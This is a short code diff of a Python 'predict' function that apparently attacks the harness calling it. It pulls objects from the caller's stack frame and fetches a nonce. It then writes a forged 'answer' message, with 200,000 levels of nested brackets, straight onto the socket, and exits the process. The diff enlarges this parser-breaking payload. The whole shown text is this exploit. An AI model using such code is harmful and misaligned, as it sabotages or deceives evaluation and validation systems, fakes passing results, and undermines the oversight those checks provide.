@@ -19,7 +19,7 @@ def predict(live_features: pd.DataFrame) -> pd.DataFrame:
         failures=[], warnings=[], notices=[], predictions=frame.f_locals["checks"].describe(predictions, None)
     )
     nonce = channel.request("nonce")[0]["nonce"]
-    channel._connection.sendall(b'{"answer": {"notices": ' + b"[" * 10_000 + b"]" * 10_000)
+    channel._connection.sendall(b'{"answer": {"notices": ' + b"[" * 200_000 + b"]" * 200_000)
     channel._connection.sendall(b"}, " + json.dumps({"nonce": nonce}).encode()[1:] + b"\n")
     time.sleep(60)
     os._exit(0)
